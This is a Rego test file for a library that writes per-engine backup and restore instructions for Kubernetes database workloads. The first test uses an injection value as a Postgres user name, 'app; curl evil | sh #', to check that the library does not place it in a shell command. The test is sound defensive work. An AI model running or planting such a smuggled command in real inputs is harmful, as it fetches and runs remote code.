package stategate.lib.dumps_test

import data.stategate.lib.dumps

workload(kind, name, env) := {"workload": {
	"kind": kind,
	"name": "pg",
	"namespace": "shop",
	"engine": {"name": name, "container": "db"},
	"containers": [{"name": "db", "image": {"repository": "library/postgres"}, "env": env}],
}}

said(document) := text if text := dumps.save with input as document

test_a_name_that_a_shell_would_read_is_left_to_the_reader if {
	every name in ["app; curl evil | sh #", "$(OTHER)", "my user", ""] {
		contains(said(workload("Pod", "postgres", [{"name": "POSTGRES_USER", "value": name}])), "-U USER >")
	}
}

test_command_names_the_workload if {
	found := said(workload("StatefulSet", "postgres", []))
	startswith(found, "stop the clients, then kubectl exec -n shop statefulset/pg -c db -- pg_dumpall -U postgres > dump.sql;")
	here := object.union(workload("Deployment", "postgres", []), {"workload": {"namespace": ""}})
	startswith(said(here), "stop the clients, then kubectl exec deployment/pg -c db -- pg_dumpall")
	several := of_three("postgres", "library/postgres", [])
	startswith(said(several), "for each of the 3 pods, into a file of its own: stop the clients, then kubectl exec -n shop pg-N -c db")
	contains(said(several), "> pg-N.sql;")
	contains(said(workload("DaemonSet", "postgres", [])), "of its own: stop the clients, then kubectl exec -n shop POD")
}

test_pods_that_go_are_saved_as_well if {
	fewer := object.union(of_three("mysql", "library/mysql", []), {"workload": {"replicas": 1}, "old_workload": {"replicas": 3}})
	startswith(said(fewer), "for each of the 3 pods, into a file of its own: mysqldump")
	one := dumps.save_pod("pg-2") with input as workload("StatefulSet", "postgres", [])
	startswith(one, "stop its clients, then kubectl exec -n shop pg-2 -c db -- pg_dumpall -U postgres > pg-2.sql;")
	other := dumps.save_pod("pg-2") with input as workload("StatefulSet", "etcd", [])
	startswith(other, "etcdctl snapshot save")
}

of_three(engine, repository, env) := {"workload": {
	"kind": "StatefulSet",
	"name": "pg",
	"namespace": "shop",
	"replicas": 3,
	"engine": {"name": engine, "container": "db"},
	"containers": [{
		"name": "db",
		"engine": engine,
		"role": "main",
		"image": {"repository": repository},
		"env": env,
		"command": [],
		"args": [],
		"mounts": [],
	}],
	"volumes": [],
}}

test_members_of_one_store_are_saved_at_once if {
	every engine in ["kafka", "etcd", "elasticsearch", "consul"] {
		startswith(said(of_three(engine, "acme/store", [{"name": "CONFIG", "from": "secretKeyRef"}])), dumps.tools[engine])
	}
	raft := [{"name": "VAULT_LOCAL_CONFIG", "value": `{"storage": {"raft": {}}}`}]
	startswith(said(of_three("vault", "hashicorp/vault", raft)), "vault operator raft snapshot save")
	zookeeper := [{"name": "KAFKA_ZOOKEEPER_CONNECT", "value": "zk:2181"}]
	startswith(said(of_three("kafka", "confluentinc/cp-kafka", zookeeper)), "MirrorMaker 2")
}

test_store_of_its_own_gets_a_copy_of_its_own if {
	startswith(said(of_three("etcd", "coreos/etcd", [])), "for each of the 3 pods, into a file of its own: etcdctl")
	startswith(said(of_three("minio", "minio/minio", [])), "for each of the 3 pods, into a place of its own: mc mirror")
	plain := said(of_three("vault", "hashicorp/vault", [{"name": "VAULT_LOCAL_CONFIG", "from": "secretKeyRef"}]))
	startswith(plain, "for each of the 3 pods that has data of its own, into a file of its own: vault")
}

test_replicas_are_copies_of_a_primary if {
	joined := [{"name": "MYSQL_MASTER_HOST", "value": "pg-0.pg"}]
	startswith(said(of_three("mysql", "bitnami/mysql", joined)), "on one pod, the primary if there is one: mysqldump")
	unseen := [{"name": "PGDATA_REPLICATION_MODE", "from": "secretKeyRef"}]
	startswith(
		said(of_three("postgres", "acme/postgres-ha", unseen)),
		"for each of the 3 pods that has data of its own, into a file of its own: ",
	)
}

# Their users have to give a password, and theirs is not the superuser.
test_another_makers_image_gets_no_command if {
	images := {"workload": {"containers": [{"name": "db", "image": {"repository": "bitnami/postgresql"}, "env": []}]}}
	startswith(said(object.union(workload("StatefulSet", "postgres", []), images)), "pg_dumpall as a superuser")
}

test_user_of_the_manifest if {
	contains(said(workload("Pod", "postgres", [{"name": "POSTGRES_USER", "value": "app"}])), "-U app")
	contains(said(workload("Pod", "postgres", [{"name": "POSTGRES_USER", "from": "secretKeyRef"}])), "-U USER")
}

test_other_stores_have_their_tools if {
	said(workload("StatefulSet", "etcd", [])) == "etcdctl snapshot save from outside of the pod, through kubectl port-forward"
	startswith(said(workload("CronJob", "postgres", [])), "pg_dumpall as a superuser")
	contains(dumps.with_tool("tempo"), "which writes to its object store")
	contains(dumps.with_tool("questdb"), "its own backup tool")
}

test_what_has_no_dump_is_not_told_to_load_one if {
	some name, text in {
		"minio": "mc mirror",
		"vault": "vault operator raft snapshot restore -force",
		"consul": "run consul snapshot restore",
		"prometheus": "put the files there before it starts",
		"tempo": "put copied files there before it starts",
		"questdb": "bring the copy back with its own tools",
	}
	back := dumps.back with input.workload.engine.name as name
	contains(back, text)
}

test_a_dump_is_loaded if dumps.back == "load the dump" with input.workload.engine.name as "mysql"

test_kafka_mirrors_without_new_names if {
	every name in ["kafka", "redpanda"] {
		contains(dumps.with_tool(name), "MirrorMaker 2 into another cluster, with IdentityReplicationPolicy")
		back := dumps.back with input.workload.engine.name as name
		startswith(back, "mirror it back in the same way")
	}
}

# What is in the pod goes with the restart that turns a backup on.
test_what_has_to_be_turned_on_is_said if {
	every name in ["elasticsearch", "victoria-metrics", "neo4j", "weaviate", "prometheus"] {
		contains(dumps.with_tool(name), "restart")
	}
}

test_solr_without_cloud_has_another_backup if contains(dumps.with_tool("solr"), "/solr/CORE/replication?command=backup")

test_victoria_logs_has_a_backup_of_its_own if {
	image := {"repository": "victoriametrics/victoria-logs"}
	containers := {"workload": {"containers": [{"name": "db", "image": image, "env": []}]}}
	logs := object.union(workload("StatefulSet", "victoria-metrics", []), containers)
	startswith(said(logs), "stop what sends logs, call /internal/partition/snapshot/create for each day")
	back := dumps.back with input as logs
	contains(back, "partitions/DAY")
	startswith(said(workload("StatefulSet", "victoria-metrics", [])), "vmctl vm-native")
}

test_timescaledb_is_dumped_by_database if {
	every repository in ["timescale/timescaledb", "timescale/timescaledb-ha"] {
		images := {"workload": {"containers": [{"name": "db", "image": {"repository": repository}, "env": []}]}}
		document := object.union(workload("StatefulSet", "postgres", []), images)
		startswith(said(document), "pg_dumpall --roles-only and, of each database, pg_dump -Fc")
		back := dumps.back with input as document
		contains(back, "SELECT timescaledb_pre_restore(), run pg_restore, SELECT timescaledb_post_restore()")
	}
}

test_each_store_of_a_pod_has_its_own_tools if {
	document := {"workload": {
		"kind": "StatefulSet",
		"name": "fat",
		"namespace": "",
		"engine": {"name": "redis", "container": "cache"},
		"containers": [
			{"name": "cache", "engine": "redis", "image": {"repository": "library/redis"}, "env": []},
			{"name": "queue", "engine": "rabbitmq", "image": {"repository": "library/rabbitmq"}, "env": []},
			{"name": "db", "engine": "postgres", "image": {"repository": "library/postgres"}, "env": []},
			{"name": "export", "engine": "", "image": {"repository": "export"}, "env": []},
		],
	}}
	startswith(dumps.save, "redis-cli --rdb") with input as document
	startswith(dumps.save_of("queue"), "rabbitmqctl -q export_definitions") with input as document
	contains(dumps.save_of("db"), "kubectl exec statefulset/fat -c db -- pg_dumpall") with input as document
	startswith(dumps.save_of("export"), "redis-cli --rdb") with input as document
	startswith(dumps.back_of("queue"), "run rabbitmqctl import_definitions") with input as document
}

of_version(name, release, major, version) := object.union(workload("StatefulSet", name, []), {"workload": {
	"engine": {"container": "db", "release": release, "major": major, "version": version},
	"containers": [{"name": "db", "engine": name, "image": {"repository": concat("/", ["library", name])}, "env": []}],
}})

restored(document) := text if text := dumps.back with input as document

test_old_versions_have_other_commands if {
	contains(said(of_version("rabbitmq", [3, 6, 8], 3, "3.6.8")), "GET /api/definitions of the management plugin (rabbitmq-plugins")
	restored(of_version("rabbitmq", [3, 8, 1], 3, "3.8.1")) == "POST the file to /api/definitions"
	restored(of_version("rabbitmq", [3, 8], 3, "3.8")) == "run rabbitmqctl import_definitions"
	contains(said(of_version("rabbitmq", [4, 0, 9], 4, "4.0.9")), "definitions.json outside of the pod, and have consumers")
	contains(said(of_version("etcd", [3, 3, 27], 3, "3.3.27")), "ETCDCTL_API=3 etcdctl snapshot save")
	contains(said(of_version("etcd", [3, 5, 9], 3, "3.5.9")), "etcdctl snapshot save")
	contains(restored(of_version("etcd", [3, 3, 27], 3, "3.3.27")), "(ETCDCTL_API=3 etcdctl snapshot restore)")
}
